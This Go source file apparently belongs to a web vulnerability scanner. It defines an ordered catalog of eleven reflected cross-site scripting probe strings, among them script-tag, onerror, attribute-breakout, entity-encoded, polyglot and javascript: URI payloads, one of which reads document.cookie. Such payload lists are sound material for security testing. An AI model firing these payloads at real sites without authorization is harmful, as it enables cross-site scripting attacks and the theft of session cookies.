package payloads

// XSSPayload is a single reflected XSS probe string.
type XSSPayload struct {
	// Value is injected verbatim and must reappear verbatim for a finding.
	Value string

	// Description provides a brief summary of this vector.
	Description string

	// Context tells where this payload is most effective.
	// Possible values: "HTML", "Attribute", "JS", "URL"
	Context string
}

// xssCatalog is ordered: probing stops at the first payload a form reflects,
// so the plainest vector comes first.
var xssCatalog = []XSSPayload{
	// --- Context: HTML ---
	{
		Value:       `<script>alert(1)</script>`,
		Description: "Basic script tag injection",
		Context:     "HTML",
	},
	{
		Value:       `<img src=x onerror=alert(1)>`,
		Description: "Image tag with onerror event handler",
		Context:     "HTML",
	},
	{
		Value:       `<Script>alert('XSS')</scripT>`,
		Description: "Script tag with mixed case",
		Context:     "HTML",
	},
	{
		Value:       `<script>alert(document.cookie)</script>`,
		Description: "Script tag reading cookies",
		Context:     "HTML",
	},

	// --- Context: Attribute ---
	{
		Value:       `"><svg/onload=alert(1)>`,
		Description: "SVG breakout from a double-quoted attribute",
		Context:     "Attribute",
	},
	{
		Value:       `'><svg/onload=alert(1)>`,
		Description: "SVG breakout from a single-quoted attribute",
		Context:     "Attribute",
	},
	{
		Value:       `"><img src=x onerror=alert(1)>`,
		Description: "Image breakout from a double-quoted attribute",
		Context:     "Attribute",
	},
	{
		Value:       `'><img src=x onerror=alert(1)>`,
		Description: "Image breakout from a single-quoted attribute",
		Context:     "Attribute",
	},
	{
		Value:       `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
		Description: "Event handler with HTML decimal entity encoding",
		Context:     "Attribute",
	},

	// --- Context: JS ---
	{
		Value:       `';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//--></script>`,
		Description: "Polyglot breaking out of JS strings and a script block",
		Context:     "JS",
	},

	// --- Context: URL ---
	{
		Value:       `javascript:alert(1)`,
		Description: "javascript: URI scheme injection",
		Context:     "URL",
	},
}

// XSSPayloads returns a copy of the ordered payload catalog.
func XSSPayloads() []XSSPayload {
	out := make([]XSSPayload, len(xssCatalog))
	copy(out, xssCatalog)
	return out
}
